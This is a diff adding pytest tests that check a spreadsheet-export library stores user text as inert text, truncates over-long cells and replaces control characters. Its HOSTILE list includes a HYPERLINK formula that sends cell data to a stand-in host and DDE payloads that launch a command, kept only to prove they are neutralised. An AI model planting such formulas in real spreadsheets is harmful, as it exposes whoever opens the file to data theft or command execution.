@@ -130,3 +130,49 @@ def test_page_setup_repeats_rows_and_names_the_page(tmp_path):
     assert ws.oddHeader.center.text == "填报单位：A&&B"  # "&" is a code in Excel's header language
     assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
     assert ws.page_margins.left == pytest.approx(0.4)
+
+
+# --- every cell inert: text stays text, no error values, Excel's cell limit ----------------
+
+HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1+1)", "#N/A", "#DIV/0!"]
+
+
+def test_user_text_is_saved_as_text_never_as_a_formula_or_an_error(tmp_path):
+    wb = Workbook()
+    ws = wb.active
+    for i, text in enumerate(HOSTILE, start=1):
+        ws.cell(row=i, column=1, value=text)  # openpyxl alone would make these formulas / errors
+    ws.cell(row=1, column=2, value=5)
+    path = xlsx.save_workbook(wb, tmp_path / "h.xlsx")
+    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet
+    back = openpyxl.load_workbook(path).active
+    assert [back.cell(row=i, column=1).value for i in range(1, len(HOSTILE) + 1)] == HOSTILE
+    assert all(back.cell(row=i, column=1).data_type == "s" for i in range(1, len(HOSTILE) + 1))
+    # Excel's quote prefix keeps formula-like text text when someone edits the cell.
+    assert [back.cell(row=i, column=1).quotePrefix for i in range(1, 6)] == [True] * 5
+    assert back["B1"].value == 5 and back["B1"].data_type == "n"
+
+
+def test_text_over_excels_cell_limit_is_cut_visibly_and_text_at_the_limit_is_kept(tmp_path):
+    from ledgerlib import labels
+
+    wb = Workbook()
+    ws = wb.active
+    xlsx.put(ws, 1, 1, "甲" * 32767)
+    xlsx.put(ws, 2, 1, "乙" * 32768)
+    xlsx.put(ws, 3, 1, "丙" * 10_000_000)  # the 10 MB cell a sender pasted
+    back = openpyxl.load_workbook(xlsx.save_workbook(wb, tmp_path / "long.xlsx")).active
+    assert back["A1"].value == "甲" * 32767
+    for ref, n in (("A2", 32768), ("A3", 10_000_000)):
+        note = labels.CELL_TRUNCATED.format(n=n)
+        assert len(back[ref].value) == 32767 and back[ref].value.endswith(note)
+        assert str(n) in note
+
+
+def test_control_characters_a_sender_can_smuggle_in_are_shown_not_written_raw(tmp_path):
+    wb = Workbook()
+    xlsx.put(wb.active, 1, 1, "响铃\x07与\x00空字符")  # openpyxl alone raises IllegalCharacterError
+    back = openpyxl.load_workbook(xlsx.save_workbook(wb, tmp_path / "c.xlsx")).active
+    assert back["A1"].value == "响铃\ufffd与\ufffd空字符"
